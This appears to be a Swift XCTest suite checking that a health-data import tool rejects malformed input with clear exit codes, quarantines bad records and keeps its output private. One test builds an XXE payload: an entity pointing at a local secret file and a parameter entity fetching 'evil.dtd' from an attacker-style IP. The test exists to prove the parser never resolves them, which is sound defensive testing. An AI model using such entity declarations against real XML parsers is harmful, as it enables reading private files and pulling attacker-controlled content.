import XCTest
@testable import HealthCore
import TestSupport

/// docs/FORMAT.md "Bad input" and the exit codes: clear errors, nothing published is touched, no entity
/// or external file is ever read.
final class BadInputTests: XCTestCase {
    private let good = ExportXML.everyElementKind

    /// Imports `good` into `out` so that there is something published to protect.
    private func publishedStore(_ dir: URL) throws -> (out: String, digest: Data, published: [String: Data]) {
        let path = try write(good, to: "good.xml", in: dir)
        let out = dir.appendingPathComponent("out").path
        XCTAssertEqual(try healthetl(["import", path, "--out", out, "--quiet"]).status, 0)
        return (out, try Data(contentsOf: URL(fileURLWithPath: out + "/health.sqlite")), try publishedOutputs(out))
    }

    private func assertUntouched(_ store: (out: String, digest: Data, published: [String: Data]),
                                 file: StaticString = #filePath, line: UInt = #line) throws {
        let now = try Data(contentsOf: URL(fileURLWithPath: store.out + "/health.sqlite"))
        XCTAssertEqual(now, store.digest, "published store changed", file: file, line: line)
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: store.out).filter { $0.contains("partial") }
        XCTAssertEqual(leftovers, [], file: file, line: line)
    }

    func testTruncatedExportFailsWith65NamingFileLineColumn() throws {
        let dir = try temporaryFolder(self)
        let store = try publishedStore(dir)
        let cut = String(good.prefix(good.count * 2 / 3))
        let path = try write(cut, to: "truncated.xml", in: dir)
        let result = try assertImportRefused(path, into: store.out, saying: ["truncated.xml"], before: store.published)
        XCTAssertNotNil(result.stderr.range(of: #"line \d+, column \d+"#, options: .regularExpression), result.stderr)
        XCTAssertEqual(result.stdout, "")
        try assertUntouched(store)
    }

    func testNotAHealthExportFailsWith65() throws {
        let dir = try temporaryFolder(self)
        let store = try publishedStore(dir)
        let gpx = try write("<?xml version=\"1.0\"?><gpx version=\"1.1\"><trk/></gpx>", to: "route.xml", in: dir)
        try assertImportRefused(gpx, into: store.out, options: [], saying: ["not an Apple Health export", "<gpx>"],
                                before: store.published)
        let binary = try write("\u{1}\u{2}PNG garbage", to: "photo.png", in: dir)
        try assertImportRefused(binary, into: store.out, options: [], saying: [], before: store.published)
        try assertUntouched(store)
    }

    func testMissingInputExits66AndUsageErrorsExit64() throws {
        let dir = try temporaryFolder(self)
        var result = try healthetl(["import", dir.appendingPathComponent("nope.zip").path, "--out", dir.path + "/o"])
        XCTAssertEqual(result.status, 66)
        XCTAssertTrue(result.stderr.contains("nope.zip"))
        result = try healthetl(["import"])
        XCTAssertEqual(result.status, 64)
        result = try healthetl(["import", "x.xml", "--bogus"])
        XCTAssertEqual(result.status, 64)
        result = try healthetl(["import", try write(good, to: "g.xml", in: dir), "--timezone", "Mars/Olympus"])
        XCTAssertEqual(result.status, 64)
    }

    func testUnwritableOutputExits73() throws {
        let dir = try temporaryFolder(self)
        let blocker = try write("a file, not a folder", to: "blocker", in: dir)
        let result = try healthetl(["import", try write(good, to: "g.xml", in: dir), "--out", blocker + "/out"])
        XCTAssertEqual(result.status, 73, result.stderr)
    }

    /// An export declaring an external entity: the file it names is never opened. The
    /// target is a FIFO with no writer, so any attempt to read it would hang the import.
    func testExternalEntityIsNeverRead() throws {
        let dir = try temporaryFolder(self)
        let fifo = dir.appendingPathComponent("secret").path
        XCTAssertEqual(mkfifo(fifo, 0o600), 0)
        let marker = "file://" + fifo
        let declared = good.replacingOccurrences(
            of: "<!ATTLIST HealthData locale CDATA #REQUIRED>",
            with: "<!ATTLIST HealthData locale CDATA #REQUIRED>\n<!ENTITY secret SYSTEM \"\(marker)\">\n<!ENTITY % remote SYSTEM \"http://203.0.113.1/evil.dtd\">")
        let path = try write(declared, to: "xxe.xml", in: dir)
        let out = dir.appendingPathComponent("out").path
        let result = try healthetl(["import", path, "--out", out, "--quiet"], timeout: 60)
        XCTAssertEqual(result.status, 0, result.stderr)
        XCTAssertEqual(try query(out + "/health.sqlite", "SELECT count(*) FROM samples"), ["3"])

        // Referencing the entity is an error (it is undeclared once the DTD is skipped),
        // never an expansion.
        let referenced = declared.replacingOccurrences(of: "brand=\"Zeiss\"", with: "brand=\"&secret;\"")
        let path2 = try write(referenced, to: "xxe2.xml", in: dir)
        let result2 = try healthetl(["import", path2, "--out", out, "--quiet"], timeout: 60)
        XCTAssertEqual(result2.status, 65, result2.stderr)
        XCTAssertTrue(result2.stderr.contains("secret"), result2.stderr)
    }

    func testUnusableRecordsGoToQuarantineAndTheRunGoesOn() throws {
        let dir = try temporaryFolder(self)
        let bad = good.replacingOccurrences(of: "value=\"121\"/>\n <Record", with: "value=\"12x1\"/>\n <Record")
            .replacingOccurrences(of: "unit=\"mmHg\" creationDate=\"2024-02-10 12:52:42 +0100\" startDate=\"2024-02-10 11:30:00 +0100\" endDate=\"2024-02-10 11:30:00 +0100\" value=\"79\"/>\n <Correlation",
                                  with: "unit=\"furlongs\" creationDate=\"2024-02-10 12:52:42 +0100\" startDate=\"yesterday\" endDate=\"2024-02-10 11:30:00 +0100\" value=\"79\"/>\n <Correlation")
        XCTAssertNotEqual(bad, good)
        let path = try write(bad, to: "bad.xml", in: dir)
        let out = dir.appendingPathComponent("out").path
        let result = try healthetl(["import", path, "--out", out, "--json"])
        XCTAssertEqual(result.status, 0, result.stderr)
        XCTAssertTrue(result.stdout.contains("\"quarantined\":2"), result.stdout)
        let reasons = try query(out + "/health.sqlite", "SELECT line || ' ' || reason FROM quarantine ORDER BY line")
        XCTAssertEqual(reasons, ["16 unreadable value '12x1'", "17 unreadable startDate"], "line numbers of the file, DOCTYPE included")
        XCTAssertEqual(try query(out + "/health.sqlite", "SELECT count(*) FROM samples"), ["1"])
    }

    func testOutputsArePrivate() throws {
        let dir = try temporaryFolder(self)
        let store = try publishedStore(dir)
        var info = stat()
        XCTAssertEqual(stat(store.out, &info), 0)
        XCTAssertEqual(info.st_mode & 0o777, 0o700)
        XCTAssertEqual(stat(store.out + "/health.sqlite", &info), 0)
        XCTAssertEqual(info.st_mode & 0o777, 0o600)
    }
}
